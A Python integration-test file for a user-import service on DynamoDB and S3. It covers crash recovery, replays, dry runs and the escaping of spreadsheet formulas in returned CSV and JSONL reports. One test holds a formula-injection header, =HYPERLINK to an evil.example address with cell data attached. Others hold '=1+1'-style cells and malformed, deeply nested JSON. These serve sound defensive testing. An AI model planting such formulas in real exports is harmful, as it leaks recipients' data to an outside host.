"""Imports on the local engine: every row is answered, once, whatever dies on the way.

One engine is enough: what an import asks of DynamoDB is what single changes ask, which is tested on both.
"""

import csv
import io
import json
import os
import random
from collections import Counter
from typing import Any

import pytest

from registrar.adapters.dynamodb import item_of
from registrar.adapters.environment import Environment
from registrar.adapters.store import Store
from registrar.domain import limits
from registrar.domain.errors import LedgerMismatch, TransientFault
from registrar.imports.adapters.objects import Objects
from registrar.imports.services import chunks
from registrar_client import export
from registrar_client.check import Checker
from registrar_client.check.tables import Tables
from tests.integration import machine, tables
from tests.integration.deaths import Death, Dying, until_it_lives, watched
from tests.integration.import_machine import BUCKET, ImportMachine, csv_of, step, use
from tests.integration.sample_requests import request
from tests.integration.tables import items_of
from tests.model import Answering

pytestmark = pytest.mark.one_engine

ROWS = int(os.environ.get("IMPORT_ROWS", "800"))
"""Of the large import; 10,000 in a longer run: make test IMPORT_ROWS=10000."""


@pytest.fixture
def small_chunks(monkeypatch) -> None:
    monkeypatch.setattr(limits, "CHUNK_ROWS", 40)


@pytest.fixture
def both_tables(engine, created_tables):
    """Return a function that reads the items of both tables."""

    def read() -> list[list[dict[str, Any]]]:
        found = [items_of(engine, table) for table in (created_tables.users, created_tables.ledger)]
        return [sorted(items, key=str) for items in found]

    return read


def numbers(summary: dict[str, Any]) -> tuple[int, ...]:
    return tuple(summary[name] for name in ("rows", "applied", "rejected", "replayed", "failed"))


def person(number: int, **fields: Any) -> dict[str, Any]:
    names = {
        "username": f"user{number}",
        "email": f"user{number}@example.com",
        "display_name": f"=User {number}",
    }
    return {"user_id": f"u-{number}", **names, **fields}


BAD = {
    "unknown action": {"action": "explode"},
    "no user to update": {"action": "update", "user_id": "nobody"},
    "no user to delete": {
        "action": "delete",
        "user_id": "nobody",
        "username": "",
        "email": "",
        "display_name": "",
    },
    "bad e-mail": {"email": "nonsense"},
    "bad id": {"user_id": "u 1"},
    "bad status": {"status": "asleep"},
    "bad tags": {"tags": "no json"},
    "bad version": {"expected_version": "x"},
    "stale version": {"action": "update", "user_id": "u-0", "expected_version": "77"},
    "name taken in the table": {"username": "HELD"},
}


def test_a_large_import_with_bad_rows_doubles_and_deaths_answers_each_row_once_and_again_changes_nothing(
    imports, execute, both_tables, engine, small_chunks
):
    execute(request("create", "u-0", attributes={"username": "held"}))
    rng = random.Random(7)
    rows = [person(number) for number in range(1, ROWS + 1)]
    # One in a hundred is bad, of each kind; then rows that ask for what an earlier one has.
    bad = dict(zip(range(50, ROWS, 100), list(BAD.items()) * ROWS, strict=False))
    for place, (_, fields) in bad.items():
        rows[place] |= fields
    doubles = {place: place - 30 for place in range(99, ROWS, 100)}
    for place, winner in doubles.items():
        rows[place]["email"] = str(rows[winner]["email"]).upper()
    content = csv_of(rows)
    deaths = [0]

    def stumble(_side: str, _operation: str) -> None:
        if rng.random() < 0.002:
            deaths[0] += 1
            raise Death

    with watched(engine, imports.s3, stumble):
        summary = imports.run(content, deliver=until_it_lives)
    assert deaths[0] > ROWS / 300
    refused = len(bad) + len(doubles)
    assert numbers(summary) == (ROWS, ROWS - refused, refused, 0, 0)
    report = imports.report(summary)
    assert [int(line["row"]) for line in report] == list(range(2, ROWS + 2))
    for place, winner in doubles.items():
        assert report[place]["codes"] == "name_taken"
        assert f"row {winner + 2} of this file" in report[place]["messages"]
    assert {report[place]["outcome"] for place in bad} == {"REJECTED"}
    before = both_tables()
    again = imports.run(content)
    assert numbers(again) == (ROWS, 0, 0, ROWS, 0)
    assert again["not_applied"] == refused
    assert both_tables() == before


MIXED = [
    person(1),
    person(2),
    {"user_id": "u-1", "action": "update", "username": "countess"},
    {"user_id": "u-2", "action": "delete"},
    person(2, display_name="again"),
    person(3, email="nonsense"),
    person(4, username="USER1", email="four@example.com"),
    {"user_id": "u-1", "action": "update", "reason": "stale", "expected_version": "9"},
    person(5, change_id="c-used"),
    {"user_id": "u-5", "action": "delete"},
]


def test_a_chunk_that_dies_at_any_call_is_run_again_and_answers_as_if_it_had_not(
    imports, execute, engine, created_tables, both_tables
):
    """The crash matrix of an import: before and after each call of every step, once or twice."""
    calls: list[tuple[str, str]] = []
    content = csv_of(MIXED)
    with watched(engine, imports.s3, lambda *call: calls.append(call)):
        begin_anew(execute, engine, created_tables)
        calls.clear()
        expected = told(imports, imports.run(content))
    assert Counter(outcome for _, outcome, *_ in expected) == {"APPLIED": 5, "REJECTED": 5}
    assert {operation for _, operation in calls} == {
        "BatchGetItem", "GetObject", "HeadObject", "PutItem", "PutObject",
        "TransactWriteItems",
    }  # fmt: skip
    checker = Checker(engine, created_tables.users, created_tables.ledger)
    for at in range(len(calls)):
        begin_anew(execute, engine, created_tables)
        death = Dying(at, times=1 + at % 2)
        with watched(engine, imports.s3, death):
            summary = imports.run(content, deliver=until_it_lives)
        assert death.times == 0
        assert told(imports, summary) == expected, calls[at]
        assert numbers(summary) == (10, 5, 5, 0, 0), calls[at]
        assert list(checker.check()) == [], calls[at]


def begin_anew(execute: Any, engine: Any, names: tables.Tables) -> None:
    for table, keys in ((names.users, ("pk",)), (names.ledger, ("user_id", "sequence"))):
        for item in items_of(engine, table):
            engine.delete_item(TableName=table, Key={key: {"S": item[key]} for key in keys})
    execute(request("create", "u-9", change_id="c-used", attributes={}))


def told(imports: ImportMachine, summary: dict[str, Any]) -> list[tuple[str, ...]]:
    """What a report says of each row."""
    names = ("row", "outcome", "version", "codes")
    return [tuple(line[name] for name in names) for line in imports.report(summary)]


def test_an_import_comes_to_what_its_rows_come_to_one_after_the_other(imports, both_tables, small_chunks):
    """Random changes of a few users: those of one keep their order, however many chunks are applied."""
    rng, model = random.Random(3), Answering()
    rows = []
    for number in range(400):
        action = rng.choice(["create", "update", "update", "delete"])
        attributes = {"display_name": f"n{number}"} if action != "delete" else {}
        rows.append(
            {"user_id": f"u-{rng.randrange(60)}", "action": action, "change_id": f"c-{number}", **attributes}
        )
    summary = imports.run(csv_of(rows))
    expected = []
    for row in rows:
        asked = {name: row[name] for name in ("user_id", "action", "change_id")}
        if row["action"] != "delete":
            asked["attributes"] = {"display_name": row["display_name"]}
        outcome, version, codes = model.answer(asked)
        expected.append((outcome, "" if version is None else str(version), "; ".join(codes)))
    report = imports.report(summary)
    assert [(line["outcome"], line["version"], line["codes"]) for line in report] == expected
    users, _ = both_tables()
    live = {item["user_id"]: item["display_name"] for item in users if item.get("listing")}
    assert live == {
        uid: user.attributes["display_name"] for uid, user in model.users.items() if user.attributes
    }


def test_a_dry_run_says_what_would_happen_and_writes_nothing(imports, execute, both_tables):
    execute(request("create", "u-7", attributes={"username": "user3"}))
    execute(request("create", "u-8", change_id="c-8", attributes={}))
    rows = [*MIXED, person(3), person(8), {"user_id": "u-8", "action": "delete", "change_id": "c-8"}]
    before = both_tables()
    dry = imports.run(csv_of(rows), dry_run=True)
    assert both_tables() == before
    wet = imports.run(csv_of(rows))
    assert both_tables() != before

    def would(summary: dict[str, Any]) -> Any:
        return [(line["outcome"], line["codes"], line["change_id"]) for line in imports.report(summary)]

    assert would(dry) == would(wet)
    assert (dry["dry_run"], wet["dry_run"]) == (True, False)
    assert numbers(dry) == numbers(wet)
    assert dry["write_units"] == 0


def test_what_was_sent_back_is_mended_and_imported_by_itself(imports):
    rows = [person(1), person(2, email="=nonsense"), person(3, username="user1", tags='{"a": "b"}')]
    summary = imports.run(csv_of(rows))
    assert numbers(summary) == (3, 1, 2, 0, 0)
    failed = imports.text(summary, "failed.csv")
    assert "'=nonsense" in failed
    assert "row 2 of this file" in failed
    same = imports.run(failed)
    assert numbers(same) == (2, 0, 2, 0, 0)
    # The column of reasons is there once, however often a file comes back.
    assert imports.text(same, "failed.csv").count("import_errors") == 1
    mended = failed.replace("'=nonsense", "two@example.com").replace("user1", "user3")
    assert numbers(imports.run(mended)) == (2, 2, 0, 0, 0)


def test_no_separator_of_a_spreadsheet_begins_a_cell_within_one_that_is_sent_back(imports):
    summary = imports.run(csv_of([person(1, email="x;=1+1", display_name="x\t=1+1")]))
    assert '"x;=1+1","x\t=1+1"' in imports.text(summary, "failed.csv")
    assert all(line.startswith('"') for line in imports.text(summary, "report.csv").splitlines())


def test_lines_of_json_are_sent_back_as_lines_of_json(imports):
    lines = [
        '{"user_id": "u-1", "attributes": {"username": "\\ud800"}}',
        "{",
        '{"user_id": "u-2", "attributes": {}}',
    ]
    summary = imports.run("\n".join(lines), name="users.jsonl")
    assert numbers(summary) == (3, 1, 2, 0, 0)
    back = [json.loads(line) for line in imports.text(summary, "failed.jsonl").splitlines()]
    assert [set(each) for each in back] == [
        {"user_id", "attributes", "import_errors"},
        {"line", "import_errors"},
    ]
    assert back[0]["attributes"] == {"username": "\ud800"}


@pytest.mark.parametrize(
    ("options", "done"), [({"fail_fast": 3}, 21), ({"tolerated_failure_percentage": 2}, 21), ({}, 120)]
)
def test_an_import_stops_within_a_chunk_at_its_limit_of_failures(
    imports, small_chunks, monkeypatch, options, done
):
    monkeypatch.setattr(chunks, "AT_ONCE", 1)
    rows = [person(number, **({"email": "no"} if number % 10 == 0 else {})) for number in range(100, 220)]
    summary = imports.run(csv_of(rows), **options)
    answered = summary["applied"] + summary["rejected"]
    assert (answered, summary["failed"]) == (done, 120 - done)
    left = [line for line in imports.report(summary) if line["codes"] == "import_stopped"]
    assert len(left) == 120 - done
    # What was left alone goes on with what was sent back.
    rest = imports.run(imports.text(summary, "failed.csv"))
    assert rest["applied"] + summary["applied"] == 108


def test_an_import_that_stops_at_its_first_bad_row_follows_the_order_of_the_file(imports, small_chunks):
    """Every other row is bad: what comes before the first of them is applied."""
    bad = [{}, {"email": "no"}, {"user_id": "u 1"}, {"action": "explode"}, {"user_id": "", "tags": "x"}]
    rows = [person(n, **({} if n < 30 or n % 2 else bad[n % 5])) for n in range(300)]
    summary = imports.run(csv_of(rows), fail_fast=1)
    report = imports.report(summary)
    assert {line["outcome"] for line in report[:30]} == {"APPLIED"}
    # Those in flight are answered; no chunk behind the first one has begun.
    assert 1 <= summary["rejected"] <= chunks.AT_ONCE
    assert {line["codes"] for line in report[40:]} == {"import_stopped"}


def test_an_import_that_dies_for_good_before_its_audit_leaves_nothing_that_the_guard_does_not_deliver(
    imports, engine, created_tables, monkeypatch
):
    """In the end the checker must find no receipt without its record, applied or rejected."""

    def deliver(handler: Any, event: Any) -> Any:
        if handler is step("audit_chunk").handler:
            raise Death
        return handler(event, None)

    rows = [person(1), person(2, email="no"), {"user_id": "u-3", "action": "delete"}, {"user_id": "u 4"}]
    with pytest.raises(Death):
        imports.run(csv_of(rows), deliver=deliver)
    receipts = [item for item in items_of(engine, created_tables.users) if item["pk"].startswith("CHANGE#")]
    assert sorted(item["outcome"] for item in receipts) == ["APPLIED", "REJECTED", "REJECTED", "REJECTED"]
    guard_ledger = machine.step("guard_ledger")
    monkeypatch.setattr(guard_ledger, "environment", Environment(grace_seconds="0"))
    assert guard_ledger.handler(stream_of(receipts), None) == {"batchItemFailures": []}
    records = items_of(engine, created_tables.ledger)
    assert sorted(map(str, records)) == sorted(
        str({name: value for name, value in item.items() if name != "pk"}) for item in receipts
    )


def stream_of(receipts: list[dict[str, Any]]) -> dict[str, Any]:
    """Return the event that Lambda makes of new receipts."""
    return {
        "Records": [
            {
                "dynamodb": {
                    "SequenceNumber": str(number),
                    "ApproximateCreationDateTime": 0,
                    "NewImage": item_of(receipt),
                }
            }
            for number, receipt in enumerate(receipts)
        ]
    }


def test_a_rejected_row_costs_a_receipt_and_a_record(imports, requests_sent):
    """Two plain puts, and no transaction: as a change by itself it costs twice that."""
    imports.run(csv_of([{"user_id": f"u-{n}", "action": "explode"} for n in range(10)]))
    assert Counter(requests_sent) == {"BatchGetItem": 1, "PutItem": 20}


def test_a_chunk_that_is_stopped_after_it_had_begun_answers_what_it_did(imports, engine, both_tables):
    """A function that dies in the middle of a chunk, and is run again when the import has stopped."""
    rows = [person(number) for number in range(20)]
    left = [8]

    def die_after_some(_side: str, operation: str) -> None:
        if operation == "TransactWriteItems":
            left[0] -= 1
            if left[0] < 0:
                raise Death

    def deliver(handler: Any, event: Any) -> Any:
        if handler is step("write_chunk").handler:
            with watched(engine, imports.s3, die_after_some), pytest.raises(Death):
                handler(event, None)
            # Another chunk's rows were rejected in the meantime.
            imports.s3.objects[BUCKET, f"imports/{event['import_id']}/progress/000002-0-5-0-0-5"] = b""
        return handler(event, None)

    summary = imports.run(csv_of(rows), deliver=deliver, fail_fast=5)
    users, ledger = both_tables()
    committed = len([item for item in users if item["pk"].startswith("USER#")])
    assert 0 < committed < 20
    assert (summary["applied"], summary["failed"]) == (committed, 20 - committed)
    assert len(ledger) == committed


@pytest.mark.parametrize("begun_anew", [False, True])
def test_a_row_that_was_rejected_before_its_chunk_died_is_not_applied_after_the_rows_behind_it(
    imports, execute, engine, both_tables, begun_anew
):
    """Its receipt tells, though the delete behind it has made the create possible."""
    execute(request("create", "u-1", attributes={}))
    rows = [{"user_id": "u-1", "action": "create"}, {"user_id": "u-1", "action": "delete"}]

    def die(_side: str, operation: str) -> None:
        if operation == "PutObject":
            raise Death

    def deliver(handler: Any, event: Any) -> Any:
        if handler is step("write_chunk").handler:
            with watched(engine, imports.s3, die), pytest.raises(Death):
                handler(event, None)
            if begun_anew:
                raise Death
        return handler(event, None)

    if begun_anew:
        with pytest.raises(Death):
            imports.run(csv_of(rows), deliver=deliver)
        summary = imports.run(csv_of(rows))
    else:
        summary = imports.run(csv_of(rows), deliver=deliver)
    assert [line["codes"] for line in imports.report(summary)] == ["user_exists", ""]
    (user,) = [item for item in both_tables()[0] if item["pk"] == "USER#u-1"]
    assert (user["status"], user["version"]) == ("deleted", 2)


def test_an_import_again_reads_receipts_and_is_refused_no_transaction(imports, requests_sent):
    content = csv_of([person(number) for number in range(120)])
    imports.run(content)
    requests_sent.clear()
    assert numbers(imports.run(content)) == (120, 0, 0, 120, 0)
    assert Counter(requests_sent) == {"BatchGetItem": 2, "PutItem": 120}


def nested(levels: int) -> str:
    """Return a line whose tags nest so deep."""
    return '{"user_id": "u-2", "attributes": {"tags": ' + '{"a":' * levels + "1" + "}" * (levels + 2)


HOSTILE = [
    '{"change_id": "\\udfff", "attributes": {}}',
    '{"change_id": "\\ud800\\udbff", "user_id": null, "attributes": {}, "reason": "\\udfff"}',
    '{"\\udfff": 1, "attributes": {"tags": {"\\udfff": "x"}}}',
    *(nested(levels) for levels in (30, 31, 32, 900, 984, 986, 989, 1000, 10_000)),
    '{"user_id": "u-3", "attributes": {}, "expected_version": 1e999}',
    '{"user_id": "u-3", "attributes": {"tags": {"a": -1E400}}}',
    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 5000 + "}",
    '{"user_id": "u-3", "attributes": {}, "expected_version": ' + "9" * 4000 + "}",
    '{"user_id": "u-3", "attributes": {}, "expected_version": NaN}',
    '{"user_id": {"a": ["b"]}, "change_id": ["c"], "action": {}, "attributes": []}',
]


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_row_of_any_content_is_answered_by_itself_and_sent_back_as_json(imports, dry_run):
    lines = [*HOSTILE, '{"user_id": "u-1", "attributes": {}}']
    summary = imports.run("\n".join(lines), name="users.jsonl", dry_run=dry_run)
    assert numbers(summary) == (len(lines), 1, len(lines) - 1, 0, 0)
    report = imports.report(summary)
    assert {line["outcome"] for line in report[:-1]} == {"REJECTED"}
    assert {line["codes"] for line in report[3:12]} >= {"bad_format"}
    assert "nests deeper than 32 levels" in report[9]["messages"]
    assert "not finite" in report[12]["messages"]
    back = imports.text(summary, "failed.jsonl").splitlines()
    assert len(back) == len(HOSTILE)
    for line in back:
        assert "import_errors" in json.loads(line, parse_constant=pytest.fail, parse_float=pytest.fail)


def test_the_header_that_is_sent_back_is_run_by_no_spreadsheet_and_read_as_it_was(imports):
    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
    content = csv_of([{"Login": "u 1", evil: "x", "＠note": "\n=1+1"}])  # noqa: RUF001
    columns = {"Login": "user_id", evil: None, "＠note": "display_name"}  # noqa: RUF001
    summary = imports.run(content, columns=columns)
    assert numbers(summary) == (1, 0, 1, 0, 0)
    failed = imports.text(summary, "failed.csv")
    header, row = csv.reader(io.StringIO(failed, newline=""))
    assert header == ["Login", f"'{evil}", "'＠note", "import_errors"]  # noqa: RUF001
    assert row[:3] == ["u 1", "x", "'\n=1+1"]
    again = imports.run(failed, columns=columns)
    assert imports.report(again)[0]["codes"] == imports.report(summary)[0]["codes"]


def test_a_csv_without_user_ids_makes_users_and_rejects_what_is_no_create(imports):
    summary = imports.run("action,username\n,ada\ncreate,bob\nupdate,eve\n")
    assert numbers(summary) == (3, 2, 1, 0, 0)
    assert [line["paths"] for line in imports.report(summary)] == ["", "", "/user_id"]


def test_an_import_again_under_another_session_is_all_replays_and_the_first_session_is_recorded(
    imports, both_tables
):
    role = {"id": "arn:aws:sts::123456789012:assumed-role/Task", "type": "iam"}
    content = csv_of(MIXED)
    imports.run(content, actor={**role, "session": "first"})
    before = both_tables()
    again = imports.run(content, actor={**role, "session": "second"})
    assert (again["replayed"], again["rows"]) == (len(MIXED), len(MIXED))
    assert both_tables() == before
    assert all(record["actor"] == {**role, "session": "first"} for record in before[1])
    # Another role is somebody else, and nobody without a session has the field.
    other = imports.run(content, actor={**role, "id": f"{role['id']}-2"})
    assert other["replayed"] == 0
    later = [record["actor"] for record in both_tables()[1] if record not in before[1]]
    assert later
    assert all("session" not in actor for actor in later)


@pytest.mark.parametrize("unusable", [5, None, "a b", {"x": []}])
def test_a_row_with_an_unusable_change_id_is_answered_under_the_one_that_follows_from_it(imports, unusable):
    lines = [{"user_id": "u-1", "change_id": unusable, "attributes": {}}]
    summary = imports.run("".join(f"{json.dumps(line)}\n" for line in lines), name="users.jsonl")
    (line,) = imports.report(summary)
    assert line["change_id"].startswith("i-")
    assert line["outcome"] == ("APPLIED" if unusable is None else "REJECTED")


def test_a_row_whose_place_in_the_ledger_is_taken_fails_by_itself(
    imports, execute_unchecked, engine, created_tables
):
    forged = {"user_id": "u-2", "sequence": "v#000000000001", "change_id": "forged", "hash": "0" * 64}
    item = {name: {"S": value} for name, value in forged.items()}
    engine.put_item(TableName=created_tables.ledger, Item=item)
    with pytest.raises(LedgerMismatch):
        imports.run(csv_of([person(1), person(2), person(3)]), import_id="forged")
    # The execution fails, and its alarm goes off; the report is there all the same.
    summary = json.loads(imports.text({"import_id": "forged"}, "summary.json"))
    assert numbers(summary) == (3, 2, 0, 0, 1)
    assert (summary["status"], [error["code"] for error in summary["errors"]]) == ("FAILED", ["fault"])
    assert [line["codes"] for line in imports.report(summary)] == ["", "fault", ""]
    # The checker sees the forgery; with it gone the row is delivered by another run.
    engine.delete_item(
        TableName=created_tables.ledger, Key={name: item[name] for name in ("user_id", "sequence")}
    )
    assert numbers(imports.run(csv_of([person(1), person(2), person(3)]))) == (3, 0, 0, 3, 0)


def test_what_passes_by_itself_is_tried_again_within_the_chunk(imports, engine):
    # More than the writing itself tries again.
    left = [TransientFault("throttled")] * 9

    def throttle(**_named: Any) -> None:
        if left:
            raise left.pop()

    events = [f"before-call.dynamodb.{name}" for name in ("TransactWriteItems", "PutItem")]
    for event in events:
        engine.meta.events.register(event, throttle)
    try:
        assert numbers(imports.run(csv_of([person(1)]))) == (1, 1, 0, 0, 0)
    finally:
        for event in events:
            engine.meta.events.unregister(event, throttle)
    assert left == []


@pytest.mark.parametrize(
    ("content", "options", "code"),
    [
        ("user_id\n", {}, "no_rows"),
        ("user_id\nu-1\n", {"source": {"key": "uploads/missing.csv"}}, "not_found"),
        ("user_id\nu-1\n", {"format": "xlsx"}, "not_allowed"),
        ("user_id\nu-1\n", {"name": "users.txt"}, "required"),
        ("user_id\nu-1\n", {"columns": {"user_id": "surname"}}, "not_allowed"),
        ("user_id\nu-1\n", {"fail_fast": 0, "colour": "red"}, "out_of_range"),
        ("user_id,action\n" + "u-1,update\n" * 1001, {}, "too_long"),
    ],
)
def test_a_file_that_cannot_be_worked_on_is_refused_and_nothing_is_done(
    imports, both_tables, content, options, code
):
    summary = imports.run(content, **options)
    assert (summary["status"], summary["errors"][0]["code"]) == ("REFUSED", code)
    assert both_tables() == [[], []]


def test_a_file_that_is_too_large_is_refused_before_it_is_read(imports, monkeypatch):
    monkeypatch.setattr(limits, "IMPORT_BYTES_MAX", 10)
    assert imports.run("user_id\nu-1\nu-2\n")["errors"][0]["path"] == "/source"
    assert not [call for call in imports.s3.calls if call[0] == "GetObject"]
    monkeypatch.setattr(limits, "IMPORT_BYTES_MAX", 1000)
    monkeypatch.setattr(limits, "IMPORT_ROWS_MAX", 1)
    assert "more than 1 rows" in imports.run("user_id\nu-1\nu-2\n")["errors"][0]["message"]


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_what_is_exported_makes_the_same_users_elsewhere(imports, engine, created_tables, monkeypatch, form):
    rng = random.Random(5)
    odd = ["=1+1", "-x", "@y", "+z", "'=q", "\\N", 'a"b,c', "ß", "x"]
    rows = []
    for number in range(60):
        tags = json.dumps({"team": rng.choice(odd)}) if number % 3 else ""
        rows.append(person(number, display_name=f"'{rng.choice(odd)}", tags=tags, reason="r"))
    assert imports.run(csv_of(rows))["applied"] == 60

    def exported(names: tables.Tables) -> str:
        file = io.StringIO(newline="")
        write = export.write_csv if form == "csv" else export.write_jsonl
        users = sorted(
            export.live_users(Tables(engine, names.users, names.ledger), 4), key=lambda u: u["user_id"]
        )
        assert write(iter(users), file) == 60
        return file.getvalue()

    first = exported(created_tables)
    with tables.created(engine) as elsewhere:
        use(monkeypatch, Objects(imports.s3, BUCKET), Store(engine, elsewhere.users, elsewhere.ledger))
        assert imports.run(first, name=f"users.{form}")["applied"] == 60
        assert exported(elsewhere) == first
        assert len(list(export.records(Tables(engine, elsewhere.users, elsewhere.ledger), 4))) == 60
